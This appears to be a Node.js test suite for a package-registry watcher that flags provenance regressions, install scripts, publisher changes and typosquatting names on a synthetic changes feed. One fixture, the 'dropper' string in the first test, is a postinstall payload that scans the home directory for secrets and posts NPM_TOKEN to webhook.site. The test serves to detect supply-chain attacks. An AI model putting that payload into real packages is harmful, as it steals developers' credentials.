'use strict'

// `prov-native watch --changes-feed`: the loopback registry's CouchDB-style `_changes` feed
// (SYNTHETIC sequence numbers; publish() lists the name at a new one) says which names changed.
// The packages before the run are the real fixtures; the versions and names published here are
// SYNTHETIC (makeTgz tarballs, no attestations).

const assert = require('node:assert/strict')
const fs = require('node:fs')
const path = require('node:path')
const { test } = require('node:test')

const pn = require('..')
const { startRegistry } = require('./registry')
const { tmpdir, makeTgz, rejectsWith } = require('./helpers')
const watch = require('../bin/watch')

const MAINTAINERS = [{ name: 'bdehamer', email: 'b@example.com' }]
const withMaintainers = {
  sigstore: (doc) => {
    for (const m of Object.values(doc.versions)) m.maintainers = MAINTAINERS
    return doc
  }
}
const WATCHED = ['sigstore', 'tuf-js', 'abbrev', 'has-package-exports']

function setup (reg) {
  const dir = tmpdir()
  fs.writeFileSync(path.join(dir, '.npmrc'), `registry=${reg.url}\n`)
  return { dir, state: path.join(dir, 'state.json') }
}

// One CLI round, a fresh watcher each time (a restart): only the state file carries over.
async function round (reg, dir, state, extra = []) {
  const out = []
  const err = []
  const cwd = process.cwd()
  const from = reg.requests.length
  process.chdir(dir)
  try {
    const code = await watch.run(['--once', '--json', '--packages', WATCHED.join(','), '--changes-feed', reg.feedUrl, '--state', state, '--no-cache', ...extra], { out: (s) => out.push(s), err: (s) => err.push(s) })
    const requests = reg.requests.slice(from)
    return { code, events: out.map((l) => JSON.parse(l)), err, requests, packuments: requests.filter((q) => !q.url.startsWith('/-/') && !q.url.includes('/-/')).map((q) => decodeURIComponent(q.url)) }
  } finally {
    process.chdir(cwd)
  }
}

const tgz = (name, version, scripts, files = {}) => makeTgz({ 'package.json': JSON.stringify({ name, version, scripts }), ...files })
const at = (s) => new Date(Date.UTC(2030, 0, 1, 0, 0, s)).toISOString()
const sinceOf = (q) => new URL(q.url, 'http://x').searchParams.get('since')

test('watch --changes-feed: each new version once, in order; unchanged names are not asked for; a restart resumes from the stored seq', async () => {
  const reg = await startRegistry({ abbreviated: true, overrides: withMaintainers })
  try {
    const { dir, state } = setup(reg)
    const seen = []
    // 1. First round on the feed: the cursor (since=now), then every name polled (baselines).
    let r = await round(reg, dir, state)
    assert.equal(r.code, 0)
    assert.deepEqual(r.events, [])
    assert.equal(sinceOf(r.requests[0]), 'now', 'the cursor is taken before the packuments are read')
    assert.deepEqual([...new Set(r.packuments)].sort(), WATCHED.map((n) => '/' + n).sort())
    let st = JSON.parse(fs.readFileSync(state, 'utf8'))
    assert.equal(st.feed.url, reg.feedUrl)
    assert.match(st.feed.since, /^\d+$/)

    // 2. Nothing published: one feed request, no packument at all (without the feed: one per name).
    r = await round(reg, dir, state)
    assert.deepEqual(r.events, [])
    assert.deepEqual(r.requests.map((q) => q.url), [`/-/feed/_changes?since=${st.feed.since}&limit=500`])

    // 3. A version without provenance: only its name is asked for.
    reg.publish('sigstore', '9.0.0', { manifest: { maintainers: MAINTAINERS }, tgz: tgz('sigstore', '9.0.0'), time: at(1) })
    r = await round(reg, dir, state)
    seen.push(...r.events)
    assert.deepEqual(r.events.map((e) => `${e.version} ${e.rule}`), ['9.0.0 provenanceRegression'])
    assert.ok(r.packuments.every((u) => u === '/sigstore'), r.packuments.join(' '))
    assert.equal(r.requests.filter((q) => q.url.startsWith('/-/feed/')).length, 1)

    // 4. The changed name is asked once more (a 304), the others not at all.
    r = await round(reg, dir, state)
    assert.deepEqual(r.events, [])
    assert.deepEqual(r.packuments, ['/sigstore'])
    assert.equal(r.requests.find((q) => q.url === '/sigstore').status, 304)
    r = await round(reg, dir, state)
    assert.deepEqual(r.packuments, [])

    // 5. Two versions between rounds (the watcher "stopped"): judged in publish order, from the
    //    stored cursor.
    st = JSON.parse(fs.readFileSync(state, 'utf8'))
    const dropper = "require('child_process').execSync('trufflehog filesystem ~'); fetch('https://webhook.site/x', { method: 'POST', body: process.env.NPM_TOKEN })"
    reg.publish('sigstore', '9.0.1', { manifest: { maintainers: MAINTAINERS, scripts: { postinstall: 'node install.js' } }, tgz: tgz('sigstore', '9.0.1', { postinstall: 'node install.js' }, { 'install.js': dropper }), time: at(2) })
    reg.publish('sigstore', '9.0.2', { manifest: { maintainers: [...MAINTAINERS, { name: 'mallory', email: 'm@example.com' }], scripts: { postinstall: 'node install.js' } }, tgz: tgz('sigstore', '9.0.2', { postinstall: 'node install.js' }, { 'install.js': dropper }), time: at(3) })
    r = await round(reg, dir, state)
    seen.push(...r.events)
    assert.equal(sinceOf(r.requests[0]), st.feed.since, 'resumes from the stored seq')
    const rules = r.events.map((e) => `${e.version} ${e.rule}`)
    assert.ok(rules.includes('9.0.1 installScripts'), rules.join('\n'))
    assert.ok(rules.includes('9.0.2 publisherChange'), rules.join('\n'))
    const versions = r.events.map((e) => e.version)
    assert.deepEqual(versions, [...versions].sort(), 'in publish order')

    // 6. Restarts: nothing again.
    for (let i = 0; i < 2; i++) {
      r = await round(reg, dir, state)
      assert.deepEqual(r.events, [])
    }
    const ids = seen.map((e) => e.id)
    assert.equal(new Set(ids).size, ids.length, 'each event once')
    st = JSON.parse(fs.readFileSync(state, 'utf8'))
    for (const v of ['9.0.0', '9.0.1', '9.0.2']) assert.ok(st.packages.sigstore.versions.includes(v))
  } finally {
    await reg.close()
  }
})

test('watch --changes-feed: a new name imitating a watched one is one typosquat event; old and unrelated names are not', async () => {
  const reg = await startRegistry()
  try {
    const { dir, state } = setup(reg)
    await round(reg, dir, state)
    // A new look-alike (one edit from sigstore), an old one (first published long ago: a
    // neighbour, not news), an unrelated new name.
    reg.publish('sigstor3', '1.0.0', { tgz: tgz('sigstor3', '1.0.0'), time: at(10) })
    reg.publish('tuf-jsx', '0.1.0', { tgz: tgz('tuf-jsx', '0.1.0'), time: '2016-05-01T00:00:00.000Z' })
    reg.publish('left-pad-ng', '1.0.0', { tgz: tgz('left-pad-ng', '1.0.0'), time: at(11) })
    let r = await round(reg, dir, state)
    assert.deepEqual(r.events.map((e) => [e.id, e.rule, e.imitates]), [['sigstor3@1.0.0#typosquat#1', 'typosquat', 'sigstore']])
    assert.match(r.events[0].message, /sigstor3 imitates the watched package sigstore/)
    assert.equal(r.events[0].level, 'error')
    assert.equal(r.code, 1)
    assert.ok(!r.packuments.includes('/left-pad-ng'), 'a name that imitates nothing watched is not asked for')
    assert.ok(r.packuments.includes('/tuf-jsx'))
    const st = JSON.parse(fs.readFileSync(state, 'utf8'))
    assert.deepEqual(st.feed.lookalikes, { sigstor3: 'sigstore', 'tuf-jsx': 'tuf-js' })
    // A new version of a look-alike already decided: neither asked for nor reported again.
    reg.publish('sigstor3', '1.0.1', { tgz: tgz('sigstor3', '1.0.1'), time: at(12) })
    reg.publish('tuf-jsx', '0.2.0', { tgz: tgz('tuf-jsx', '0.2.0'), time: at(13) })
    r = await round(reg, dir, state)
    assert.deepEqual(r.events, [])
    assert.deepEqual(r.packuments, [])
    // rules.typosquat.allow is honoured.
    fs.writeFileSync(path.join(dir, 'prov-native.config.json'), JSON.stringify({ rules: { typosquat: { allow: ['abbrevv'] } } }))
    reg.publish('abbrevv', '1.0.0', { tgz: tgz('abbrevv', '1.0.0'), time: at(14) })
    reg.publish('has-package-export', '1.0.0', { tgz: tgz('has-package-export', '1.0.0'), time: at(15) })
    r = await round(reg, dir, state)
    assert.deepEqual(r.events.map((e) => `${e.name} ${e.imitates}`), ['has-package-export has-package-exports'])
  } finally {
    await reg.close()
  }
})

test('watch --changes-feed: an outage of the feed falls back to polling and says so; a full outage delays, loses nothing', async () => {
  const reg = await startRegistry({ overrides: withMaintainers })
  try {
    const { dir, state } = setup(reg)
    await round(reg, dir, state)
    const cursor = JSON.parse(fs.readFileSync(state, 'utf8')).feed.since

    // The feed alone fails (503 past the retries): every name polled, the event still comes.
    reg.outage(503, reg.feedPath)
    reg.publish('sigstore', '9.0.0', { manifest: { maintainers: MAINTAINERS }, tgz: tgz('sigstore', '9.0.0'), time: at(1) })
    let r = await round(reg, dir, state)
    assert.deepEqual(r.events.map((e) => e.id), ['sigstore@9.0.0#provenanceRegression#1'])
    assert.ok(r.err.some((l) => /changes feed .* failed \(ERR_PROV_NETWORK: .*503.*polled every name/.test(l)), r.err.join('\n'))
    assert.deepEqual([...new Set(r.packuments)].sort(), WATCHED.map((n) => '/' + n).sort())
    assert.equal(JSON.parse(fs.readFileSync(state, 'utf8')).feed.since, cursor, 'the cursor does not move')

    // Everything down: a version and a look-alike published meanwhile come after it.
    reg.outage(503)
    reg.publish('sigstore', '9.0.1', { manifest: { maintainers: [...MAINTAINERS, { name: 'mallory', email: 'm@example.com' }] }, tgz: tgz('sigstore', '9.0.1'), time: at(2) })
    reg.publish('sigst0re', '1.0.0', { tgz: tgz('sigst0re', '1.0.0'), time: at(3) })
    r = await round(reg, dir, state)
    assert.deepEqual(r.events, [])
    assert.ok(r.err.some((l) => /sigstore: ERR_PROV_NETWORK: .*503.*kept for the next round/.test(l)), r.err.join('\n'))
    reg.outage(null)
    r = await round(reg, dir, state)
    const ids = r.events.map((e) => e.id)
    assert.ok(ids.includes('sigstore@9.0.1#publisherChange#1'), ids.join('\n'))
    assert.equal(ids[ids.length - 1], 'sigst0re@1.0.0#typosquat#1')
    assert.equal(new Set(ids).size, ids.length)
    assert.equal(sinceOf(r.requests[0]), cursor, 'resumes from the cursor stored before the outage')
    r = await round(reg, dir, state)
    assert.deepEqual(r.events, [])
  } finally {
    await reg.close()
  }
})

test('watch --changes-feed: pages are bounded per round; the rest comes next round', async () => {
  const reg = await startRegistry()
  try {
    const { dir, state } = setup(reg)
    const opts = { cwd: dir, stateFile: state, cache: false, packages: WATCHED, changesFeed: reg.feedUrl, changesFeedPageSize: 2, changesFeedMaxPages: 2 }
    const step = async () => {
      const from = reg.requests.length
      const r = await pn.watchPoll(opts)
      fs.writeFileSync(state, JSON.stringify(r.state))
      return { r, feedRequests: reg.requests.slice(from).filter((q) => q.url.startsWith('/-/feed/')).length }
    }
    await step()
    for (let i = 0; i < 6; i++) reg.publish(`pkg-${i}`, '1.0.0', { tgz: tgz(`pkg-${i}`, '1.0.0') })
    reg.publish('abbrev', '9.9.9', { tgz: tgz('abbrev', '9.9.9'), time: at(1) })
    let { r, feedRequests } = await step()
    assert.equal(feedRequests, 2)
    assert.equal(r.feed.pages, 2)
    assert.equal(r.feed.changes, 4)
    assert.equal(r.feed.more, true)
    assert.deepEqual(r.newVersions, [])
    ;({ r, feedRequests } = await step())
    assert.equal(r.feed.changes, 3)
    assert.equal(r.feed.more, false)
    assert.deepEqual(r.newVersions, ['abbrev@9.9.9'])
    ;({ r } = await step())
    assert.deepEqual(r.newVersions, [])

    await rejectsWith(pn.watchPoll({ ...opts, changesFeedPageSize: 0 }), 'ERR_PROV_INVALID_ARG')
    await rejectsWith(pn.watchPoll({ ...opts, changesFeed: 'ftp://feed.example/' }), 'ERR_PROV_INVALID_ARG')
    await rejectsWith(pn.watchPoll({ ...opts, changesFeed: 7 }), 'ERR_PROV_INVALID_ARG')
    const { changesFeed: _f, ...noFeed } = opts
    fs.writeFileSync(path.join(dir, 'prov-native.config.json'), JSON.stringify({ watch: { changesFeed: 'feed' } }))
    await rejectsWith(pn.watchPoll(noFeed), 'ERR_PROV_CONFIG')
    // The policy's watch.changesFeed is followed when no option names one.
    fs.writeFileSync(path.join(dir, 'prov-native.config.json'), JSON.stringify({ watch: { changesFeed: reg.feedUrl } }))
    ;({ r } = await step())
    assert.equal(r.feed.url, reg.feedUrl)
    const io = { out: () => {}, err: () => {} }
    await assert.rejects(watch.run(['--changes-feed', 'file:///x'], io), (e) => e.code === 'ERR_PROV_INVALID_ARG')
  } finally {
    await reg.close()
  }
})
